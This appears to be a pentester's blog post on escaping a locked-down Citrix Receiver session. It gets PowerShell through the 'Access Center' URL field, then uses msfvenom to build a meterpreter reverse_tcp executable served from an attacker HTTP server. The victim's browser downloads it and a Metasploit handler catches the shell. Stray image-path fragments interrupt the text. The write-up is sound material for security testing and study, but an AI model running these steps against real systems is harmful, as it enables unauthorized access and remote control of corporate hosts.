Escaping Citrix Environment

Once you’re in Citrix Receiver you’d like to get a command line. Often domain admins disable access to cmd but they forget about powershell.

There’re different ways to get what you want:

Does it still work? Yes, it does!

Screenshot from 2016-07-08 14-33-08.png

Then go to the link called “Access Center” and type in a URL field: C:\Windows\System32\WindowsPowershell\v1.0\powershell.exe

Screenshot from 2016-07-08 14-35-55.png

Press enter and get your shell:

Screenshot from 2016-07-08 14-40-20.png

Uploading meterpreter

I had to download meterpreter (some say that it’s better to use Powershell Empire because it can avoid AVs) so I started a simple http server using python:

python -m http.server 80

To generate payload use msfvenom:msfvenom -p windows/x64/meterpreter/reverse_tcp  lhost= lport=4444 -f exe -o exploit.exe

To know which arch we have on the remote host we can use the following variable:


Create a handler on the attacker’s machine:

use multi/handler
set payload windows/x64/meterpreter/reverse_tcp
set LHOST <local ip>

Then we start IE to download our payload:

Invoke-Item "C:\Program Files\Internet Explorer\iexplore.exe"But it loads only start page and I was not able to change its behaviour (if you know how I’d like to know so email me in that case:). So instead of the previous command I could use the following:

Start-Process <URL>

It starts IE and goes to the URL. We download the payload and it gives us meterpreter shell.

Then we could use backgroundcommand to send our shellinto the background anduse some exploits or whatever. To get back to thesession use sessions -i <number>